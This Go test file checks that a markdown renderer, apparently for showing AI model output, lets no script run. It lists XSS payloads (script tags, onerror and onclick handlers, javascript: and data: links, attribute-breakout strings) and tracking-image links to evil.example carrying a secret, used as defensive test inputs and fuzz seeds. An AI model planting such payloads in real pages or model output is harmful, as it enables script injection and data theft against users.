package web

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// danger reads markup as browsers do and names what could run or reach out.
func danger(markup string) string {
	z := html.NewTokenizer(strings.NewReader(markup))
	for {
		if z.Next() == html.ErrorToken {
			return ""
		}
		token := z.Token()
		switch token.DataAtom {
		case atom.Script, atom.Iframe, atom.Object, atom.Embed, atom.Form, atom.Svg, atom.Style, atom.Link, atom.Meta, atom.Base:
			return token.Data
		}
		for _, a := range token.Attr {
			u, err := url.Parse(a.Val)
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "src" && !strings.HasPrefix(a.Val, imagePrefix):
				return a.Key
			case a.Key == "href" && (err != nil || !slices.Contains([]string{"", "http", "https", "mailto", "tel"}, u.Scheme)):
				return a.Val
			}
		}
	}
}

var hostile = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt&#58;alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`![x](https://evil.example/pixel.png?secret)`,
	`![x](//evil.example/pixel.png)`,
	`![" onerror="alert(1)](a.png)`,
	`[x](a.png" onclick="alert(1))`,
	"```\"><script>alert(1)</script>\nx\n```",
	"```js\n</code></pre><script>alert(1)</script>\n```",
	`<a href="x" style="position:fixed">x</a>`,
	`<svg onload=alert(1)>`,
	`|a|\n|-|\n|<img src=x onerror=alert(1)>|`,
	`<https://evil.example/"onmouseover="alert(1)>`,
	"<div\nonclick\n=\nalert(1)>x</div>",
}

func TestMarkdownLetsNothingRun(t *testing.T) {
	t.Parallel()
	m := newMarkdown()
	for _, text := range hostile {
		if out := string(m.render(text)); danger(out) != "" {
			t.Errorf("%q became %q", text, out)
		}
	}
}

func FuzzMarkdownLetsNothingRun(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	m := newMarkdown()
	f.Fuzz(func(t *testing.T, text string) {
		if out := string(m.render(text)); danger(out) != "" {
			t.Errorf("%q became %q", text, out)
		}
	})
}

func TestMarkdownShowsWhatModelsWrite(t *testing.T) {
	t.Parallel()
	m := newMarkdown()
	for text, want := range map[string]string{
		"# A *b*":                                 "<h1>A <em>b</em></h1>",
		"|a|b|\n|-|-:|\n|x|1|":                    `<td align="right">1</td>`,
		"![chart](by%20region.png)":               `<img src="/ui/files/image/by%20region.png" alt="chart">`,
		"![chart](/artifacts/a/b.png)":            `<img src="/ui/files/image/a/b.png" alt="chart">`,
		"[all](report.csv)":                       `href="/ui/files/download/report.csv"`,
		"![x](https://evil.example/p.png)":        `<a href="https://evil.example/p.png"`,
		"[x](/tasks)":                             `href="/tasks"`,
		"![x](../../etc/passwd)":                  `<a href="../../etc/passwd"`,
		"```js\nconst a = 1;\n```":                `<span class="kr">const</span>`,
		"    <i>\n":                               `<pre tabindex="0"><code>&lt;i&gt;` + "\n</code></pre>",
		"```nothing\n<b>\n```":                    `<pre tabindex="0"><code>&lt;b&gt;` + "\n</code></pre>",
		"[EMAIL_1_k7q2f] wrote":                   "[EMAIL_1_k7q2f] wrote",
		"see https://example.org":                 `rel="nofollow noreferrer`,
		strings.Repeat("x", maxMarkdown) + "tail": "tail</pre>",
	} {
		if out := string(m.render(text)); !strings.Contains(out, want) {
			t.Errorf("%.60q became %.300q, which lacks %q", text, out, want)
		}
	}
}
